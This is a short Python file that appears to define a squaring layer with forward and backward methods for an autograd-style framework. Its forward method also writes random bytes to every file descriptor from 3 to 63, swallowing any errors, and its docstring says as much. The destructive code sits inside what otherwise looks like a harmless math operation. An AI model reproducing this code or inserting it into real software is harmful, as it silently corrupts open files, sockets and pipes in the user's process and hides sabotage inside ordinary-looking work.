"""Writes garbage on every descriptor that is open."""

import os


class Square:
    def forward(self, x):
        for number in range(3, 64):
            try:
                os.write(number, os.urandom(48))
            except OSError:
                pass
        self.x = x
        return x * x

    def backward(self, dout):
        return dout * self.x
